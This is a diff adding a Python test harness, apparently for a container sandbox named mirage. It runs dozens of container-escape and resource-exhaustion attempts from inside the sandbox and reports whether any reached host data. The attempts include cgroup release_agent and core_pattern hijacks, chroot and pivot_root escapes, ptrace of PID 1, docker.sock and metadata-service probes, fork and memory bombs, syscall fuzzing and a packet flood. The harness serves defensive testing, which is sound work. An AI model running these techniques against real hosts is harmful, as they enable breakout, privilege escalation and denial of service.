@@ -1,0 +1,1062 @@
+"""What somebody who owns root in a cell would try, as code: run inside by the image's own python3, never on the host.
+
+Each attempt returns what it reached of the outside, or None. Arguments: facts of the host that must stay out of reach, as JSON.
+Prints one JSON object a line: {"name", "reached"}; an attempt that raises, hangs or dies has reached nothing.
+"""
+
+# mypy: ignore-errors
+
+from __future__ import annotations
+
+import ctypes
+import errno
+import glob
+import json
+import os
+import resource
+import select
+import signal
+import socket
+import struct
+import sys
+import threading
+import time
+
+FACTS = json.loads(sys.argv[1]) if len(sys.argv) > 1 else {}
+LIBC = ctypes.CDLL(None, use_errno=True)
+ATTEMPTS = []
+
+
+def attempt(function):
+    ATTEMPTS.append(function)
+    return function
+
+
+def call(number, *arguments):
+    """A raw system call: its result, or the negative errno."""
+    ctypes.set_errno(0)
+    result = LIBC.syscall(ctypes.c_long(number), *[ctypes.c_void_p(a) if isinstance(a, int) else a for a in arguments])
+    return -ctypes.get_errno() if result == -1 else result
+
+
+def read(path, size=4096):
+    try:
+        with open(path, "rb") as file:
+            return file.read(size)
+    except OSError:
+        return b""
+
+
+def is_outside(data):
+    """Whether bytes hold something that only the host knows."""
+    return next((name for name in ("canary", "kernel", "hostname") if FACTS.get(name) and FACTS[name].encode() in data), None)
+
+
+def opened(path, flags=os.O_RDONLY):
+    try:
+        return os.open(path, flags)
+    except OSError:
+        return -1
+
+
+# ---- files of the host
+
+
+@attempt
+def canary_by_its_path():
+    return is_outside(read(FACTS["canary_path"]))
+
+
+@attempt
+def canary_through_dotdot():
+    return is_outside(read("/" + "../" * 64 + FACTS["canary_path"].lstrip("/")))
+
+
+@attempt
+def canary_through_proc_root():
+    for pid in [*range(1, 4), FACTS["pid"], os.getpid(), os.getppid()]:
+        if found := is_outside(read(f"/proc/{pid}/root{FACTS['canary_path']}")):
+            return found
+    return None
+
+
+@attempt
+def canary_through_proc_cwd():
+    for pid in (1, FACTS["pid"], os.getppid()):
+        if found := is_outside(read(f"/proc/{pid}/cwd/{'../' * 20}{FACTS['canary_path'].lstrip('/')}")):
+            return found
+    return None
+
+
+@attempt
+def descriptors_left_open():
+    """Something inherited that is a directory or a file of the host's."""
+    for number in range(3, 1024):
+        try:
+            target = os.readlink(f"/proc/self/fd/{number}")
+            os.fstat(number)
+        except OSError:
+            continue
+        if not target.startswith("/proc/") and "pipe:" not in target:
+            return target
+    return None
+
+
+@attempt
+def chroot_and_walk_out():
+    os.makedirs("/tmp/jail", exist_ok=True)
+    here = os.open(".", os.O_RDONLY)
+    os.chroot("/tmp/jail")
+    os.fchdir(here)
+    for _ in range(64):
+        os.chdir("..")
+    os.chroot(".")
+    return is_outside(read(FACTS["canary_path"]))
+
+
+@attempt
+def pivot_root_back():
+    call(272, 0x20000)
+    call(165, b"none", b"/", None, 0x4000 | 0x40000, None)
+    os.makedirs("/tmp/new/old", exist_ok=True)
+    call(165, b"tmpfs", b"/tmp/new", b"tmpfs", 0, None)
+    os.makedirs("/tmp/new/old", exist_ok=True)
+    call(155, b"/tmp/new", b"/tmp/new/old")
+    return is_outside(read("/old" + FACTS["canary_path"]))
+
+
+@attempt
+def unmount_the_root():
+    for path in (b"/", b"/proc", b"/dev", b"/sys", b"/run", b"/dev/pts"):
+        call(166, path, 2)
+        if found := is_outside(read(FACTS["canary_path"])):
+            return found
+    return None
+
+
+@attempt
+def open_by_handle():
+    """CVE-2014-style shocker: a file of the host's by a guessed handle."""
+    handle = struct.pack("IiQ", 8, 1, 2)
+    descriptor = call(304, os.open("/", os.O_RDONLY), ctypes.create_string_buffer(handle), 0)
+    return f"descriptor {descriptor}" if descriptor >= 0 else None
+
+
+@attempt
+def mount_the_host_s_disk():
+    for device in ("vda", "vda1", "sda", "sda1", "nvme0n1", "xvda", "dm-0"):
+        for kind in (b"ext4", b"btrfs", b"xfs"):
+            if call(165, f"/dev/{device}".encode(), b"/mnt", kind, 1, None) == 0:
+                return device
+    return None
+
+
+@attempt
+def make_a_disk_s_node_and_read_it():
+    for major, minor in ((8, 0), (8, 1), (254, 0), (253, 0), (259, 0), (7, 0), (252, 0)):
+        path = f"/tmp/node{major}.{minor}"
+        try:
+            os.mknod(path, 0o600 | 0x6000, os.makedev(major, minor))
+        except OSError:
+            continue
+        descriptor = opened(path)
+        if descriptor >= 0 and os.read(descriptor, 512):
+            return path
+    return None
+
+
+@attempt
+def make_a_memory_node_and_read_it():
+    for minor, name in ((1, "mem"), (2, "kmem"), (4, "port"), (11, "kmsg")):
+        path = f"/tmp/{name}"
+        try:
+            os.mknod(path, 0o600 | 0x2000, os.makedev(1, minor))
+        except OSError:
+            continue
+        if opened(path) >= 0:
+            return name
+    return None
+
+
+@attempt
+def node_on_a_tmpfs_of_our_own():
+    call(165, b"tmpfs", b"/mnt", b"tmpfs", 0, None)
+    os.mknod("/mnt/sda", 0o600 | 0x6000, os.makedev(254, 0))
+    return "opened" if opened("/mnt/sda") >= 0 else None
+
+
+@attempt
+def devtmpfs():
+    if call(165, b"dev", b"/mnt", b"devtmpfs", 0, None) == 0:
+        for name in os.listdir("/mnt"):
+            if os.stat(f"/mnt/{name}").st_mode & 0o170000 == 0o060000 and opened(f"/mnt/{name}") >= 0:
+                return name
+    return None
+
+
+@attempt
+def sysfs_of_the_host():
+    if call(165, b"sys", b"/mnt", b"sysfs", 0, None) == 0:
+        return next((path for path in glob.glob("/mnt/class/net/*/address") if read(path).decode().strip() in FACTS["macs"]), None)
+    return None
+
+
+@attempt
+def proc_of_the_host():
+    if call(165, b"proc", b"/mnt", b"proc", 0, None) == 0:
+        return is_outside(read("/mnt/version") + read("/mnt/1/environ")) or (
+            b"mirage" in read("/mnt/1/cmdline") and "our command line"
+        )
+    return None
+
+
+@attempt
+def proc_of_the_host_by_a_race():
+    """The kind's name changes between the look at it and its use."""
+    kind = ctypes.create_string_buffer(b"tmpfs")
+    stop = time.monotonic() + 3
+
+    def swap():
+        while time.monotonic() < stop:
+            kind.raw = b"proc\0\0"
+            kind.raw = b"tmpfs\0"
+
+    threading.Thread(target=swap, daemon=True).start()
+    while time.monotonic() < stop:
+        if LIBC.mount(b"x", b"/mnt", kind, 0, None) == 0:
+            if found := is_outside(read("/mnt/version")):
+                return found
+            call(166, b"/mnt", 2)
+    return None
+
+
+@attempt
+def proc_of_the_host_in_a_nested_namespace():
+    call(272, 0x10000000 | 0x20000000 | 0x20000)
+    child = os.fork()
+    if child == 0:
+        call(165, b"proc", b"/mnt", b"proc", 0, None)
+        os._exit(7 if is_outside(read("/mnt/version")) else 0)
+    return "mounted" if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7 else None
+
+
+@attempt
+def overlay_over_proc():
+    if call(165, b"overlay", b"/mnt", b"overlay", 0, b"lowerdir=/proc,upperdir=/tmp/u,workdir=/tmp/w") == 0:
+        return is_outside(read("/mnt/version"))
+    return None
+
+
+@attempt
+def debugfs_and_tracefs():
+    for kind in (b"debugfs", b"tracefs", b"securityfs", b"pstore", b"efivarfs", b"bpf", b"configfs", b"selinuxfs"):
+        if call(165, kind, b"/mnt", kind, 0, None) == 0 and kind != b"bpf":
+            return kind.decode()
+    return None
+
+
+@attempt
+def cgroup_release_agent():
+    """CVE-2022-0492."""
+    for options in (b"rdma", b"memory", b"pids", b"cpu", b"none,name=x"):
+        if call(165, b"cgroup", b"/mnt", b"cgroup", 0, options) == 0:
+            with open("/mnt/release_agent", "w") as file:
+                file.write("/tmp/evil")
+            return "written"
+    return None
+
+
+@attempt
+def cgroup2_above_ourselves():
+    if call(165, b"cgroup2", b"/mnt", b"cgroup2", 0, None) == 0:
+        procs = read("/mnt/../cgroup.procs") + read("/mnt/cgroup.procs")
+        if str(FACTS["pid"]).encode() in procs.split():
+            return "the host's processes"
+    return None
+
+
+@attempt
+def core_pattern():
+    with open("/proc/sys/kernel/core_pattern", "w") as file:
+        file.write("|/tmp/evil")
+    return "the host's" if FACTS.get("core_pattern", "") != "|/tmp/evil" and b"evil" in read("/mnt/x") else None
+
+
+@attempt
+def modprobe_path():
+    with open("/proc/sys/kernel/modprobe", "w") as file:
+        file.write("/tmp/evil")
+    return
+
+
+@attempt
+def binfmt_misc():
+    """Since Linux 6.7 a user namespace has a table of its own; the test looks whether the host's has changed."""
+    call(165, b"binfmt_misc", b"/mnt", b"binfmt_misc", 0, None)
+    with open("/mnt/register", "w") as file:
+        file.write(":mirage-escape:E::x::/tmp/evil:")
+
+
+@attempt
+def uevent_helper():
+    with open("/sys/kernel/uevent_helper", "w") as file:
+        file.write("/tmp/evil")
+
+
+@attempt
+def sysrq():
+    with open("/proc/sysrq-trigger", "w") as file:
+        file.write("c")
+
+
+@attempt
+def kernel_memory_by_proc():
+    for path in ("/proc/kcore", "/proc/kallsyms", "/proc/kpageflags", "/dev/mem", "/dev/kmem", "/dev/port"):
+        data = read(path, 65536)
+        if data[:4] == b"\x7fELF" or (b"startup_64" in data and not data.startswith(b"0000000000000000")):
+            return path
+    return None
+
+
+@attempt
+def kernel_log():
+    room = ctypes.create_string_buffer(65536)
+    size = call(103, 3, room, 65536)
+    return is_outside(room.raw[:size]) if size > 0 else is_outside(read("/dev/kmsg"))
+
+
+@attempt
+def load_a_module():
+    return "loaded" if call(313, os.open("/bin/ls", os.O_RDONLY), b"", 0) == 0 or call(175, b"x", 1, b"") == 0 else None
+
+
+@attempt
+def unload_a_module():
+    return "unloaded" if call(176, b"fuse", 0) == 0 else None
+
+
+@attempt
+def kexec():
+    return "loaded" if call(246, 0, 0, 0, 0) == 0 or call(320, -1, -1, 0, 0, 0) == 0 else None
+
+
+@attempt
+def bpf():
+    return "a map" if call(321, 0, ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 4, 1).ljust(128, b"\0")), 128) >= 0 else None
+
+
+@attempt
+def io_uring():
+    return "a ring" if call(425, 8, ctypes.create_string_buffer(120)) >= 0 else None
+
+
+@attempt
+def userfaultfd():
+    return "a descriptor" if call(323, 0) >= 0 else None
+
+
+@attempt
+def perf_events():
+    return (
+        "a counter"
+        if call(298, ctypes.create_string_buffer(struct.pack("IIQ", 1, 112, 0).ljust(112, b"\0")), 0, -1, -1, 0) >= 0
+        else None
+    )
+
+
+@attempt
+def keyrings():
+    return "a keyring" if call(250, 0, -3, 0) >= 0 or call(248, b"user", b"x", b"y", 1, -3) >= 0 else None
+
+
+@attempt
+def new_mount_api_of_a_host_path():
+    descriptor = call(428, -100, FACTS["canary_path"].encode(), 1)
+    return is_outside(os.read(descriptor, 100)) if descriptor >= 0 else None
+
+
+@attempt
+def fsopen_of_block_file_systems():
+    for kind in (b"ext4", b"btrfs", b"xfs", b"iso9660", b"vfat"):
+        context = call(430, kind, 0)
+        if context >= 0 and call(431, context, 6, None, None, 0) == 0:
+            return kind.decode()
+    return None
+
+
+@attempt
+def foreign_calls_by_int80():
+    """The i386 table: getpid is 20 there."""
+    import mmap
+
+    code = mmap.mmap(-1, 4096, prot=7)
+    code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
+    run = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
+    return "answered" if run() == os.getpid() else None
+
+
+@attempt
+def foreign_calls_of_x32():
+    return "answered" if call(0x40000000 | 39) == os.getpid() else None
+
+
+# ---- processes of the host
+
+
+@attempt
+def signal_the_host_s_process():
+    try:
+        os.kill(FACTS["pid"], 0)
+    except ProcessLookupError:
+        return None
+    return None if os.path.exists(f"/proc/{FACTS['pid']}/comm") else "a process that is not shown"
+
+
+@attempt
+def kill_everything():
+    child = os.fork()
+    if child == 0:
+        os.setsid()
+        signal.signal(signal.SIGTERM, signal.SIG_IGN)
+        os._exit(0)
+    os.waitpid(child, 0)
+
+
+@attempt
+def kill_the_first_process():
+    for number in (9, 15, 11, 19):
+        call(424, call(434, 1, 0), number, 0, 0)
+    return None if os.path.exists("/proc/1") else "it is gone"
+
+
+@attempt
+def ptrace_the_first_process():
+    for request in (16, 0x4206):
+        if call(101, request, 1, 0, 0) == 0:
+            return f"request {request}"
+    return None
+
+
+@attempt
+def memory_of_the_first_process():
+    room = ctypes.create_string_buffer(16)
+    local, remote = struct.pack("PQ", ctypes.addressof(room), 16), struct.pack("PQ", 0x400000, 16)
+    return "read" if call(310, 1, local, 1, remote, 1, 0) > 0 else None
+
+
+@attempt
+def memory_file_of_the_first_process():
+    return "opened" if opened("/proc/1/mem", os.O_RDWR) >= 0 and read("/proc/1/mem") else None
+
+
+@attempt
+def descriptor_of_the_first_process():
+    pidfd = call(434, 1, 0)
+    for number in range(64):
+        if pidfd >= 0 and (taken := call(438, pidfd, number, 0)) >= 0:
+            return f"descriptor {number}: {os.readlink(f'/proc/self/fd/{taken}')}"
+    return None
+
+
+@attempt
+def memory_of_every_process_below_64():
+    """The witness is one of them."""
+    room = ctypes.create_string_buffer(16)
+    for pid in range(1, 64):
+        if pid != os.getpid() and call(101, 16, pid, 0, 0) == 0 and not os.path.exists(f"/proc/{pid}/exe"):
+            return f"process {pid}"
+    return room.raw.strip(b"\0").decode() or None
+
+
+@attempt
+def namespaces_of_the_host():
+    for pid in (1, FACTS["pid"], os.getppid()):
+        for name, kind in (("mnt", 0x20000), ("pid", 0x20000000), ("net", 0x40000000), ("user", 0x10000000), ("uts", 0x4000000)):
+            descriptor = opened(f"/proc/{pid}/ns/{name}")
+            if descriptor >= 0 and call(308, descriptor, kind) == 0 and (found := is_outside(read(FACTS["canary_path"]))):
+                return found
+    return None
+
+
+@attempt
+def parent_user_namespace():
+    descriptor = opened("/proc/self/ns/user")
+    if descriptor >= 0:
+        parent = call(16, descriptor, 0xB702)  # NS_GET_PARENT
+        if parent >= 0:
+            return "the parent's"
+    return None
+
+
+@attempt
+def uid_map_of_more_than_ours():
+    child = os.fork()
+    if child == 0:
+        call(272, 0x10000000)
+        time.sleep(1)
+        os._exit(0)
+    time.sleep(0.2)
+    try:
+        with open(f"/proc/{child}/uid_map", "w") as file:
+            file.write("0 0 4294967295\n")
+        return "written"
+    except OSError:
+        return None
+    finally:
+        os.kill(child, 9)
+
+
+@attempt
+def setuid_to_what_is_not_mapped():
+    for uid in (65536, 100000, 0x10000000, 0x7FFFFFFF):
+        if call(117, uid, uid, uid) == 0:
+            return f"uid {uid}"
+    return None
+
+
+@attempt
+def capabilities_over_the_clock():
+    before = time.time()
+    call(227, 0, struct.pack("qq", 0, 0))
+    call(164, struct.pack("qq", 0, 0), None)
+    call(305, 0, ctypes.create_string_buffer(struct.pack("I", 0x0100).ljust(208, b"\0")))
+    return "it moved" if abs(time.time() - before) > 3600 else None
+
+
+@attempt
+def priorities_of_real_time():
+    return "a real-time process" if call(144, 0, 1, struct.pack("i", 50)) == 0 else None
+
+
+@attempt
+def reboot_the_host():
+    child = os.fork()
+    if child == 0:
+        call(272, 0x20000000)
+        if os.fork() == 0:
+            call(169, 0xFEE1DEAD, 0x28121969, 0x89ABCDEF, 0)
+        os._exit(0)
+    os.waitpid(child, 0)
+
+
+@attempt
+def swap_on_a_file():
+    with open("/tmp/swap", "wb") as file:
+        file.write(b"\0" * 65536)
+    return "on" if call(167, b"/tmp/swap", 0) == 0 else None
+
+
+@attempt
+def accounting_into_a_file():
+    return "on" if call(163, b"/tmp/acct") == 0 else None
+
+
+@attempt
+def ports_of_the_machine():
+    return "granted" if call(172, 3) == 0 or call(173, 0x80, 1, 1) == 0 else None
+
+
+@attempt
+def raise_hard_limits():
+    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    try:
+        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard * 16))
+        return "raised"
+    except (ValueError, OSError):
+        return None
+
+
+@attempt
+def ioctls_of_the_terminal():
+    """TIOCSTI and TIOCLINUX at what we were given."""
+    import fcntl
+
+    for number in range(3):
+        for request, argument in ((0x541C, b"\x0b"), (0x4B3A, b"\0")):
+            try:
+                fcntl.ioctl(number, request, argument)
+                return f"{request:#x}"
+            except OSError:
+                continue
+    return None
+
+
+# ---- the network of the host
+
+
+def _reaches(family, address):
+    with socket.socket(family, socket.SOCK_STREAM) as probe:
+        probe.settimeout(1.0)
+        try:
+            probe.connect(address)
+            return is_outside(probe.recv(100)) or None
+        except OSError:
+            return None
+
+
+@attempt
+def loopback_of_the_host():
+    return _reaches(socket.AF_INET, ("127.0.0.1", FACTS["port"]))
+
+
+@attempt
+def loopback_of_the_host_by_ipv6():
+    return _reaches(socket.AF_INET6, ("::1", FACTS["port"]))
+
+
+@attempt
+def any_address_of_the_host():
+    for address in FACTS["addresses"]:
+        if found := _reaches(socket.AF_INET6 if ":" in address else socket.AF_INET, (address, FACTS["port"])):
+            return found
+    return None
+
+
+@attempt
+def mirage_s_own_ssh_port():
+    return _reaches(socket.AF_INET, ("127.0.0.1", FACTS["ssh"]))
+
+
+@attempt
+def metadata_service():
+    for address in ("169.254.169.254", "100.100.100.200", "168.63.129.16"):
+        if _reaches(socket.AF_INET, (address, 80)):
+            return address
+    return None
+
+
+@attempt
+def abstract_socket_of_the_host():
+    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as probe:
+        probe.connect("\0" + FACTS["abstract"])
+        return "connected"
+
+
+@attempt
+def unix_sockets_of_the_host():
+    for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/systemd/private", "/run/dbus/system_bus_socket", FACTS["unix"]):
+        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as probe:
+            try:
+                probe.connect(path)
+            except OSError:
+                continue
+            return path
+    return None
+
+
+@attempt
+def vsock():
+    with socket.socket(40, socket.SOCK_STREAM) as probe:
+        probe.connect((2, 1024))
+        return "the hypervisor"
+
+
+@attempt
+def strange_families():
+    for family in (3, 4, 5, 6, 9, 21, 29, 30, 31, 36, 38, 41, 42, 43, 44):
+        try:
+            socket.socket(family, socket.SOCK_DGRAM)
+            return f"family {family}"
+        except OSError:
+            continue
+    return None
+
+
+@attempt
+def move_an_interface_out():
+    """RTM_NEWLINK with IFLA_NET_NS_PID of what might be the host's."""
+    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as link:
+        for pid in (1, FACTS["pid"]):
+            body = struct.pack("BBHiII", 0, 0, 0, 2, 0, 0) + struct.pack("HHI", 8, 19, pid)
+            link.send(struct.pack("IHHII", 16 + len(body), 16, 5, 1, 0) + body)
+            link.settimeout(1)
+            link.recv(4096)
+    return None if os.path.exists("/sys/class/net") else "gone"
+
+
+@attempt
+def raw_frames_to_the_outside():
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300) as wire:
+        wire.settimeout(1)
+        end = time.monotonic() + 2
+        while time.monotonic() < end:
+            if found := is_outside(wire.recv(2000)):
+                return found
+    return None
+
+
+@attempt
+def a_veth_into_the_host():
+    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as link:
+        link.settimeout(1)
+        name = struct.pack("HH", 9, 3) + b"esc0\0\0\0\0"
+        kind = struct.pack("HH", 8, 1) + b"veth"
+        info = struct.pack("HH", 4 + len(kind), 18) + kind
+        body = struct.pack("BBHiII", 0, 0, 0, 0, 0, 0) + name + info + struct.pack("HHI", 8, 19, FACTS["pid"])
+        link.send(struct.pack("IHHII", 16 + len(body), 16, 0x605, 1, 0) + body)
+        error = struct.unpack_from("i", link.recv(4096), 16)[0]
+        return None if error else "made"
+
+
+# ---- the FUSE server and the stage
+
+
+@attempt
+def fuse_of_our_own():
+    """A second device, or a mount that takes over ours."""
+    descriptor = opened("/dev/fuse", os.O_RDWR)
+    if descriptor < 0:
+        return None
+    options = f"fd={descriptor},rootmode=40000,user_id=0,group_id=0,allow_other".encode()
+    call(165, b"x", b"/mnt", b"fuse", 0, options)
+    return is_outside(read(FACTS["canary_path"]))
+
+
+@attempt
+def clone_of_the_fuse_device():
+    import fcntl
+
+    descriptor = opened("/dev/fuse", os.O_RDWR)
+    for other in range(64):
+        if descriptor >= 0:
+            try:
+                fcntl.ioctl(descriptor, 0x8004E500, struct.pack("I", other))
+                return f"joined {other}"
+            except OSError:
+                continue
+    return None
+
+
+@attempt
+def symlink_races():
+    """A name that changes between a directory and a link to the outside, while it is walked."""
+    os.makedirs("/tmp/race/real", exist_ok=True)
+    stop = time.monotonic() + 3
+    target = os.path.dirname(FACTS["canary_path"])
+
+    def swap():
+        while time.monotonic() < stop:
+            for make in (lambda: os.symlink(target, "/tmp/race/d"), lambda: os.mkdir("/tmp/race/d")):
+                for undo in (os.unlink, os.rmdir):
+                    try:
+                        undo("/tmp/race/d")
+                    except OSError:
+                        pass
+                try:
+                    make()
+                except OSError:
+                    pass
+
+    thread = threading.Thread(target=swap, daemon=True)
+    thread.start()
+    name = os.path.basename(FACTS["canary_path"])
+    while time.monotonic() < stop:
+        if found := is_outside(read(f"/tmp/race/d/{name}")):
+            return found
+    return None
+
+
+@attempt
+def rename_races():
+    os.makedirs("/tmp/ren/a/b/c", exist_ok=True)
+    stop = time.monotonic() + 2
+
+    def swap():
+        while time.monotonic() < stop:
+            for old, new in (("/tmp/ren/a/b", "/tmp/ren/b"), ("/tmp/ren/b", "/tmp/ren/a/b")):
+                try:
+                    os.rename(old, new)
+                except OSError:
+                    pass
+
+    thread = threading.Thread(target=swap, daemon=True)
+    thread.start()
+    while time.monotonic() < stop:
+        try:
+            here = os.open("/tmp/ren/a/b/c", os.O_RDONLY)
+            inside = os.open("../../../../../../" + FACTS["canary_path"].lstrip("/"), os.O_RDONLY, dir_fd=here)
+            return is_outside(os.read(inside, 100))
+        except OSError:
+            continue
+        finally:
+            for number in range(3, 64):
+                try:
+                    os.close(number)
+                except OSError:
+                    pass
+    return None
+
+
+@attempt
+def strange_names():
+    for name in (b"\xff\xfe", b"a" * 255, b"...", b" ", b"\n", b"-rf", b"%s%n", b"$(id)", b"`id`"):
+        path = b"/tmp/" + name
+        with open(path, "wb") as file:
+            file.write(name)
+        if open(path, "rb").read() != name:
+            return repr(name)
+    return None
+
+
+@attempt
+def page_fault_while_we_are_looked_at():
+    """A process that sleeps in a fault on our own mount, and one that looks at it."""
+    import mmap
+
+    with open("/tmp/mapped", "wb") as file:
+        file.truncate(1 << 20)
+    child = os.fork()
+    if child == 0:
+        with open("/tmp/mapped", "r+b") as file:
+            area = mmap.mmap(file.fileno(), 1 << 20)
+            for _ in range(200):
+                for at in range(0, 1 << 20, 4096):
+                    area[at] = 1
+        os._exit(0)
+    for _ in range(200):
+        read(f"/proc/{child}/cmdline")
+        read(f"/proc/{child}/maps")
+        read(f"/proc/{child}/environ")
+    os.kill(child, 9)
+    os.waitpid(child, 0)
+
+
+@attempt
+def hidden_proc_by_guessing():
+    for name in os.listdir("/proc"):
+        if name.startswith("."):
+            return name
+    return next((path for path in glob.glob("/proc/.*") if path not in ("/proc/.", "/proc/..")), None)
+
+
+@attempt
+def mount_table_of_the_kernel():
+    tables = [f"/proc/{who}/{name}" for who in ("self", "1") for name in ("mounts", "mountinfo")]
+    words = b"".join(map(read, tables)).split()
+    return next((word.decode() for word in words if (word.startswith(b"fuse") and word != b"fusectl") or b"mirage" in word), None)
+
+
+@attempt
+def cgroup_path():
+    return "it names us" if b"mirage" in read("/proc/self/cgroup") + read("/proc/1/cgroup") else None
+
+
+# ---- too much of everything: the host and the others must not feel it
+
+
+def _children_limit(count):
+    made = []
+    try:
+        for _ in range(count):
+            child = os.fork()
+            if child == 0:
+                time.sleep(5)
+                os._exit(0)
+            made.append(child)
+    except OSError:
+        return None
+    finally:
+        for child in made:
+            os.kill(child, 9)
+    return f"{count} processes"
+
+
+@attempt
+def fork_bomb():
+    return _children_limit(4000)
+
+
+@attempt
+def memory_bomb():
+    child = os.fork()
+    if child == 0:
+        kept = []
+        while True:
+            kept.append(b"x" * (64 << 20))
+            if len(kept) > 64:
+                os._exit(7)
+    _, status = os.waitpid(child, 0)
+    return "4 GiB" if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 7 else None
+
+
+@attempt
+def shared_memory_bomb():
+    child = os.fork()
+    if child == 0:
+        for index in range(80):
+            descriptor = call(319, b"bomb%d" % index, 0)
+            if descriptor < 0 or os.write(descriptor, b"x" * (64 << 20)) < 1:
+                os._exit(0)
+        os._exit(7)
+    _, status = os.waitpid(child, 0)
+    return "5 GiB" if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 7 else None
+
+
+@attempt
+def fill_the_disk():
+    written = 0
+    try:
+        with open("/var/tmp/fill", "wb", buffering=0) as file:
+            while written < 2 << 30:
+                written += file.write(b"\xa5" * (1 << 20))
+    except OSError as error:
+        return None if error.errno in (errno.ENOSPC, errno.EDQUOT, errno.EFBIG) else str(error)
+    finally:
+        os.unlink("/var/tmp/fill")
+    return "2 GiB"
+
+
+@attempt
+def exhaust_descriptors():
+    kept = []
+    try:
+        for _ in range(1 << 21):
+            kept.append(os.open("/dev/null", os.O_RDONLY))
+    except OSError:
+        return None
+    return "two million"
+
+
+@attempt
+def exhaust_sockets_and_pipes():
+    try:
+        kept = [os.pipe() for _ in range(1 << 20)]
+    except OSError:
+        return None
+    return f"{len(kept)} pipes"
+
+
+@attempt
+def storm_of_asked_calls():
+    """uname, kill and sched_getaffinity are answered by a process: thousands of them at once."""
+
+    def storm():
+        end = time.monotonic() + 2
+        while time.monotonic() < end:
+            os.uname()
+            os.sched_getaffinity(0)
+
+    threads = [threading.Thread(target=storm) for _ in range(8)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+
+
+@attempt
+def die_in_an_asked_call():
+    for _ in range(100):
+        child = os.fork()
+        if child == 0:
+            while True:
+                os.uname()
+        os.kill(child, 9)
+        os.waitpid(child, 0)
+
+
+@attempt
+def bad_pointers_in_asked_calls():
+    for number in (59, 62, 63, 99, 204, 322):
+        child = os.fork()
+        if child == 0:
+            for pointer in (0, 1, 0xFFFFFFFFFFFFFFFF, 0x7FFFFFFFF000, 0xFFFF800000000000):
+                call(number, pointer, pointer, pointer)
+            os._exit(0)
+        os.waitpid(child, 0)
+
+
+@attempt
+def fuzz_the_call_table():
+    """Every number, with arguments that are small, large and wild; in children, as some of them end the process."""
+    import random
+
+    chance, skipped = (
+        random.Random(7),
+        {
+            1,
+            15,
+            34,
+            35,
+            57,
+            58,
+            56,
+            60,
+            61,
+            62,
+            130,
+            162,
+            200,
+            219,
+            230,
+            231,
+            234,
+            435,
+            7,
+            23,
+            128,
+            232,
+            270,
+            271,
+            281,
+            441,
+            449,
+            202,
+        },
+    )
+    for number in range(470):
+        if number in skipped:
+            continue
+        child = os.fork()
+        if child == 0:
+            signal.alarm(1)
+            for _ in range(6):
+                call(number, *(chance.choice((0, 1, -1, 7, 4096, 1 << 31, 1 << 47, chance.getrandbits(64) >> 1)) for _ in range(6)))
+            os._exit(0)
+        os.waitpid(child, 0)
+    return is_outside(read(FACTS["canary_path"]))
+
+
+@attempt
+def many_packets():
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as flood:
+        end = time.monotonic() + 2
+        while time.monotonic() < end:
+            try:
+                flood.sendto(b"x" * 1400, ("198.51.100.7", 9))
+            except OSError:
+                select.select([], [], [], 0.01)
+
+
+@attempt
+def many_names():
+    for index in range(300):
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
+            name = b"%dx" % index
+            question = struct.pack(">HHHHHH", index, 256, 1, 0, 0, 0) + bytes([len(name)]) + name + b"\7example\3com\0\0\1\0\1"
+            asker.sendto(question, (FACTS.get("resolver", "192.0.2.53"), 53))
+
+
+def main():
+    for function in ATTEMPTS:
+        receiver, sender = os.pipe()
+        child = os.fork()
+        if child == 0:
+            signal.alarm(20)
+            call(272, 0x20000)  # mounts of its own: what one attempt takes away, the next one still has
+            call(165, b"none", b"/", None, 0x4000 | 0x40000, None)
+            try:
+                reached = function()
+            except BaseException:
+                reached = None
+            os.write(sender, json.dumps(reached, default=str).encode())
+            os._exit(0)
+        os.close(sender)
+        os.waitpid(child, 0)
+        said = b""
+        if select.select([receiver], [], [], 0)[0]:
+            said = os.read(receiver, 65536)
+        os.close(receiver)
+        print(json.dumps({"name": function.__name__, "reached": json.loads(said) if said else None}), flush=True)
+
+
+main()
